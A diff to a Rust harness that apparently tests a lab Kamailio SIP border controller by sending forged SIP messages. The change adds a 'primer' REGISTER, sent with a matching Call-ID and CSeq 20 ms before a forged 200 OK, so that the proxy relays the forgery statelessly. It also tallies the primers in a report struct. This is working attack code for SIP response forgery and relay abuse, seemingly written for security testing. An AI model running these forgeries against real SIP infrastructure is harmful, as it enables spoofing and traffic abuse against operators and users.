@@ -9,7 +9,10 @@
 //!   answers `200 Keepalive` to the sender, copying the CSeq;
 //! * a forged `200 OK` whose first Via is the SBC and second Via names
 //!   another of the forger's addresses (the next [`FORGERS`] probe
-//!   sources): Kamailio relays it there statelessly.
+//!   sources): Kamailio relays it there statelessly. It is primed: 20 ms
+//!   before it, that address sends a REGISTER with the same Call-ID and
+//!   CSeq (as a spoofer could, choosing the Call-ID itself), which
+//!   Kamailio answers 401.
 //!
 //! Both 2xx leave the SBC through the egress classifier towards addresses
 //! the attacker really has, so the forger's sockets count them. The
@@ -46,6 +49,9 @@ pub struct ForgeryReport {
     pub addresses: u64,
     pub keepalives_sent: u64,
     pub relays_sent: u64,
+    /// REGISTERs from the relayed 200 OKs' addresses, same Call-ID and CSeq.
+    #[serde(default)]
+    pub primers_sent: u64,
     /// 2xx answers that reached the forger's sockets: `200 Keepalive`s and
     /// relayed 200 OKs.
     pub keepalive_2xx: u64,
@@ -58,7 +64,7 @@ pub struct ForgeryReport {
 
 impl ForgeryReport {
     pub fn sent(&self) -> u64 {
-        self.keepalives_sent + self.relays_sent
+        self.keepalives_sent + self.relays_sent + self.primers_sent
     }
 
     pub fn answered_2xx(&self) -> u64 {
@@ -146,9 +152,17 @@ fn run(stop: &AtomicBool, duration: Duration) -> Result<ForgeryReport> {
     let rounds = (duration.as_secs_f64() / PERIOD.as_secs_f64()).ceil() as u64;
     while !stop.load(Ordering::Relaxed) && t0.elapsed() < duration && round < rounds {
         if t0.elapsed() >= PERIOD * round as u32 {
+            for p in &pairs {
+                let id = format!("{round}-{}", p.relay_to.ip());
+                if p.rx.send_to(primer(p.relay_to, &id).as_bytes(), sbc).is_ok() {
+                    r.primers_sent += 1;
+                }
+            }
+            // Kamailio's 401 to each primer leaves before the forged 200.
+            std::thread::sleep(Duration::from_millis(20));
             for (i, p) in pairs.iter().enumerate() {
                 let from = SocketAddrV4::new(probe_source(i), SEND_PORT);
-                let id = format!("{round}-{i}");
+                let id = format!("{round}-{}", p.relay_to.ip());
                 // A full socket buffer only loses a forgery; count what left.
                 if p.tx.send_to(keepalive(from, &id).as_bytes(), sbc).is_ok() {
                     r.keepalives_sent += 1;
@@ -193,6 +207,17 @@ fn keepalive(from: SocketAddrV4, id: &str) -> String {
         "OPTIONS sip:{SBC_SIP_IP} SIP/2.0\r\nVia: SIP/2.0/UDP {from};branch=z9hG4bK-ka-{id};rport\r\n\
          Max-Forwards: 70\r\nFrom: <sip:ka@{from}>;tag=k{id}\r\nTo: <sip:{SBC_SIP_IP}>\r\n\
          Call-ID: keepalive-{id}@forger\r\nCSeq: 1 REGISTER\r\nContent-Length: 0\r\n\r\n"
+    )
+}
+
+/// Forgery 2's primer: a REGISTER from `victim` with the Call-ID and CSeq
+/// the forged 200 OK carries.
+fn primer(victim: SocketAddrV4, id: &str) -> String {
+    format!(
+        "REGISTER sip:sbc.lab SIP/2.0\r\nVia: SIP/2.0/UDP {victim};branch=z9hG4bK-victim-{id}\r\n\
+         Max-Forwards: 70\r\nFrom: <sip:1000@sbc.lab>;tag=f{id}\r\nTo: <sip:1000@sbc.lab>\r\n\
+         Call-ID: relay-{id}@forger\r\nCSeq: 1 REGISTER\r\nContact: <sip:1000@{victim}>\r\n\
+         Content-Length: 0\r\n\r\n"
     )
 }
 
